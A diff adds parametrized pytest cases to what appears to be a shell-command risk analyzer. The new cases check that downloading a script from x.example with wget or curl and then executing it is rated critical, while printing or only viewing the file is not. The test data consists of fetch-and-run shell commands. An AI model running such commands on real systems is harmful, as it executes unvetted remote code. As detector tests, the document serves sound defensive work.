@@ -197,3 +197,19 @@ def test_what_crontab_installs_is_read_from_groups_and_pipes(command: str, sever
 )
 def test_a_file_emptied_is_rated_by_where_it_is(command: str, severity: str | None) -> None:
     assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("wget -q https://x.example/i.sh && sh i.sh", "critical"),
+        ("wget https://x.example/i.sh?v=2 && chmod +x i.sh && ./i.sh", "critical"),
+        ("curl -O https://x.example/i.sh && sh i.sh", "critical"),
+        ("curl -fsSLO https://x.example/i.sh && bash i.sh", "critical"),
+        ("curl --remote-name https://x.example/i.sh; bash i.sh", "critical"),
+        ("curl -fsSL https://x.example/i.sh && bash i.sh", None),  # printed, not saved: i.sh is another file
+        ("curl -O https://x.example/i.sh && cat i.sh", None),
+    ],
+)
+def test_a_download_named_after_its_url_is_known_when_run(command: str, severity: str | None) -> None:
+    assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
